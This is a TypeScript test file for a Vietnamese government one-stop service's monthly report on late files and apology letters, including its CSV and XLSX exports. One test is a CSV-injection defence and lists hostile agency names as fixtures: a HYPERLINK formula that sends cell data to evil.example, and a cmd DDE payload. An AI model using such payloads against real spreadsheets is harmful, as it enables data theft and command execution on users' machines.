/** The monthly one-stop figures: who is counted where, and the CSV and XLSX a monitoring office downloads. */
import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { lateSinceOf, monthlyReport, reportFigures, type FileRecord } from '../../domain/onestop/report';
import { reportCsv } from '../../domain/onestop/report-csv';
import { reportXlsx } from '../../activities/onestop';
import { fileRecord, TNMT } from '../support/file-records';

const LAND = 'Chi nhánh Văn phòng Đăng ký đất đai';
const TAX = 'Chi cục Thuế huyện';

function record(code: string, overrides: Partial<FileRecord>): FileRecord {
  return fileRecord({ code, ...overrides });
}

const resolved = (on: string, outcome: FileRecord['outcome'], agency = TNMT): Partial<FileRecord> => ({ status: 'returned', resultOn: on, outcome, resultAgency: agency });

const records: FileRecord[] = [
  record('early', resolved('2037-03-05', 'early')),
  record('on-time', resolved('2037-03-09', 'on_time')),
  record('late-no-apology', { ...resolved('2037-03-12', 'late_without_apology'), late: { since: '2037-03-10', agency: TNMT } }),
  record('lien-thong', {
    firstAgency: LAND,
    holder: TAX,
    appointment: '2037-03-16',
    ...resolved('2037-03-19', 'late_with_apology', TAX),
    apology: { number: '45/PXL-CCT', agency: TAX, submittedOn: '2037-03-13', timely: true, newAppointment: '2037-03-20' },
  }),
  record('late-again', {
    receivedOn: '2037-02-25',
    appointment: '2037-03-03',
    status: 'overdue',
    apology: { number: '9/PXL', agency: TNMT, submittedOn: '2037-02-27', timely: true, newAppointment: '2037-03-10' },
    lateAgain: { since: '2037-03-11', agency: TNMT },
  }),
  record('open-late', { receivedOn: '2037-03-20', appointment: '2037-03-27', status: 'overdue', late: { since: '2037-03-28', agency: TNMT } }),
  record('withdrawn', { receivedOn: '2037-03-25', appointment: '2037-04-01', status: 'withdrawn', outcome: 'withdrawn', withdrawnOn: '2037-03-26' }),
  record('apology-not-due-yet', {
    receivedOn: '2037-03-30',
    appointment: '2037-04-02',
    apology: { number: '15/PXL', agency: TNMT, submittedOn: '2037-03-31', timely: true, newAppointment: '2037-04-08' },
  }),
  record('other-province', { jurisdiction: 'thua-thien-hue', firstAgency: 'Sở Tư pháp', ...resolved('2037-03-20', 'late_without_apology', 'Sở Tư pháp'), late: { since: '2037-03-11', agency: 'Sở Tư pháp' } }),
];

describe('monthlyReport', () => {
  const report = monthlyReport(records, '2037-03', { asOf: '2037-04-01', jurisdiction: 'tuy-phuoc' });

  it('counts each event in its month for the agency responsible then', () => {
    expect(report.rows).toEqual([
      { agency: TAX, received: 0, resolved: 1, early: 0, onTime: 0, resolvedLate: 1, late: 1, lateWithApology: 1, apologyRate: 100, apologiesOverdue: 0, reappointed: 1, lateAgain: 0, withdrawn: 0 },
      { agency: LAND, received: 1, resolved: 0, early: 0, onTime: 0, resolvedLate: 0, late: 0, lateWithApology: 0, apologyRate: null, apologiesOverdue: 0, reappointed: 0, lateAgain: 0, withdrawn: 0 },
      { agency: TNMT, received: 6, resolved: 3, early: 1, onTime: 1, resolvedLate: 1, late: 3, lateWithApology: 1, apologyRate: 33.3, apologiesOverdue: 2, reappointed: 1, lateAgain: 1, withdrawn: 1 },
    ]);
  });

  it('the unit’s row adds the agencies up, with its own rate', () => {
    expect(report.total).toEqual({
      agency: 'Toàn đơn vị',
      received: 7,
      resolved: 4,
      early: 1,
      onTime: 1,
      resolvedLate: 2,
      late: 4,
      lateWithApology: 2,
      apologyRate: 50,
      apologiesOverdue: 2,
      reappointed: 2,
      lateAgain: 1,
      withdrawn: 1,
    });
  });

  it('without a jurisdiction counts every file', () => {
    const all = monthlyReport(records, '2037-03', { asOf: '2037-04-01' });
    expect(all.total.late).toBe(5);
    expect(all.rows.map((r) => r.agency)).toContain('Sở Tư pháp');
  });

  it('a late file with an apology made on time is late from the day after its first appointment, unless the result came by then', () => {
    const apologised = record('x', { appointment: '2037-03-09', apology: { number: '1/PXL', agency: TNMT, submittedOn: '2037-03-05', timely: true, newAppointment: '2037-03-13' } });
    expect(lateSinceOf(apologised, '2037-03-09')).toBeNull();
    expect(lateSinceOf(apologised, '2037-03-10')).toEqual({ since: '2037-03-10', agency: TNMT });
    expect(lateSinceOf({ ...apologised, resultOn: '2037-03-09' }, '2037-03-20')).toBeNull();
    expect(lateSinceOf({ ...apologised, withdrawnOn: '2037-03-08' }, '2037-03-20')).toBeNull();
  });

  it('refuses a month written another way', () => {
    expect(() => monthlyReport(records, '03/2037', { asOf: '2037-04-01' })).toThrow('tháng phải có dạng YYYY-MM, ví dụ 2037-03');
  });

  it('gives the figures the monthly email and the dashboard show', () => {
    expect(reportFigures(report)).toEqual({
      'Hồ sơ tiếp nhận': '7',
      'Hồ sơ đã giải quyết': '4',
      'Trước hạn': '1',
      'Đúng hạn': '1',
      'Quá hạn': '2',
      'Hồ sơ trễ hẹn': '4',
      'Trễ hẹn có xin lỗi đúng quy định': '2',
      'Tỷ lệ xin lỗi (%)': '50% (chỉ tiêu 100%)',
      'Trễ hẹn không xin lỗi đúng quy định': '2',
      'Hẹn lại (phiếu xin lỗi)': '2',
      'Trễ hẹn cả ngày hẹn lại': '1',
      'Rút hồ sơ': '1',
      'Cơ quan có hồ sơ trễ hẹn không xin lỗi đúng quy định': `${TNMT} (2)`,
    });
    expect(reportFigures(monthlyReport([], '2037-03', { asOf: '2037-04-01' }))['Tỷ lệ xin lỗi (%)']).toBe('không có hồ sơ trễ hẹn');
  });

  it('as CSV: BOM, Vietnamese headings, decimal comma, one line per agency and the total', () => {
    const csv = reportCsv(report);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.slice(1).split('\r\n')).toEqual([
      'Cơ quan,Hồ sơ tiếp nhận,Hồ sơ đã giải quyết,Trước hạn,Đúng hạn,Quá hạn,Hồ sơ trễ hẹn,Trễ hẹn có xin lỗi đúng quy định,Tỷ lệ xin lỗi (%),Trễ hẹn không xin lỗi đúng quy định,Hẹn lại (phiếu xin lỗi),Trễ hẹn cả ngày hẹn lại,Rút hồ sơ',
      `${TAX},0,1,0,0,1,1,1,100,0,1,0,0`,
      `${LAND},1,0,0,0,0,0,0,,0,0,0,0`,
      `${TNMT},6,3,1,1,1,3,1,"33,3",2,1,1,1`,
      'Toàn đơn vị,7,4,1,1,2,4,2,50,2,2,1,1',
      '',
    ]);
  });

  it('as CSV: an agency name a spreadsheet would run as a formula is written as text (CSV injection)', () => {
    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,1)', '\tTab', 'Phòng; Ban'];
    const hostile = names.map((agency, i) => record(`h${i}`, { firstAgency: agency, holder: agency, receivedOn: '2037-03-03' }));
    const csv = reportCsv(monthlyReport(hostile, '2037-03', { asOf: '2037-04-01' }));
    const cells = csv.slice(1).split('\r\n').slice(1, -2).map((line) => line.slice(0, line.lastIndexOf(',1,0,0,0,0,0,0,,0,0,0,0')));
    expect(cells.sort()).toEqual(
      [`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")"`, `'+cmd|' /C calc'!A0`, `'-2+3`, `"'@SUM(1,1)"`, `'\tTab`, '"Phòng; Ban"'].sort(),
    );
    for (const line of csv.slice(1).split('\r\n')) expect(line).not.toMatch(/^"?[=+\-@\t]/);
  });

  it('as XLSX: a sheet with the title, the headings, the rows and the total in bold', async () => {
    const buffer = await reportXlsx([report]);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.name).toBe('tuy-phuoc 03-2037');
    expect(sheet.getCell('A1').value).toBe('Tình hình giải quyết hồ sơ và thực hiện xin lỗi tháng 03/2037 (tuy-phuoc)');
    expect(sheet.getCell('A2').value).toBe('Số liệu tính đến ngày 01/04/2037');
    expect(sheet.getRow(4).values).toEqual([undefined, 'Cơ quan', 'Hồ sơ tiếp nhận', 'Hồ sơ đã giải quyết', 'Trước hạn', 'Đúng hạn', 'Quá hạn', 'Hồ sơ trễ hẹn', 'Trễ hẹn có xin lỗi đúng quy định', 'Tỷ lệ xin lỗi (%)', 'Trễ hẹn không xin lỗi đúng quy định', 'Hẹn lại (phiếu xin lỗi)', 'Trễ hẹn cả ngày hẹn lại', 'Rút hồ sơ']);
    expect(sheet.getRow(7).values).toEqual([undefined, TNMT, 6, 3, 1, 1, 1, 3, 1, 33.3, 2, 1, 1, 1]);
    expect(sheet.getRow(6).getCell(9).value).toBeNull();
    expect(sheet.getRow(8).values).toEqual([undefined, 'Toàn đơn vị', 7, 4, 1, 1, 2, 4, 2, 50, 2, 2, 1, 1]);
    expect(sheet.getRow(8).font?.bold).toBe(true);
  });
});
